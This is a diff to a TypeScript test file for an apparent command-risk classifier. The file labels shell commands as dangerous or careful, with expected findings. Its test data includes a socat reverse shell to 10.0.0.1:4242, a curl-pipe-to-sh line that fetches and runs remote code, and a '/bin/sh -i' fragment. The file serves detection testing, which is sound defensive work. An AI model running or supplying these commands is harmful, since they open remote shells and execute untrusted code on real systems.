@@ -106,12 +106,10 @@ export const runningCases: readonly CommandCase[] = [
     ['/bin/sh -i', 'code.piped'],
     ['nc', 'network.shell'],
   ),
-  dangerous(
-    'reverse shell lists',
-    "socat exec:'bash -li',pty tcp:10.0.0.1:4242",
-    ['socat', 'network.shell'],
-    ["exec:'bash -li',pty", 'network.shell'],
-  ),
+  dangerous('reverse shell lists', "socat exec:'bash -li',pty tcp:10.0.0.1:4242", [
+    "socat exec:'bash -li',pty",
+    'network.shell',
+  ]),
   careful('nc man page', 'nc -l 1234', ['nc', 'network.contact']),
   careful('ssh man page', 'ssh prod uptime', ['ssh', 'remote.shell']),
   careful('scp man page', 'scp dump.sql mira@host:/tmp/', ['scp', 'remote.shell']),
@@ -167,5 +165,11 @@ export const runningCases: readonly CommandCase[] = [
   dangerous('homograph reports', 'l\u0455 -la', ['l\u0455', 'code.unknown'], ['l\u0455', 'text.lookalike']),
   careful('broken text', 'git commit -m "unclosed'),
   careful('broken text', ''),
-  dangerous('broken text', 'curl https://example.com/x | sh "', ['curl https://example.com/x | sh', 'text.fetch']),
+  dangerous(
+    'broken text',
+    'curl https://example.com/x | sh "',
+    ['curl', 'network.contact'],
+    ['curl https://example.com/x | sh', 'text.fetch'],
+    ['sh "', 'code.script'],
+  ),
 ];
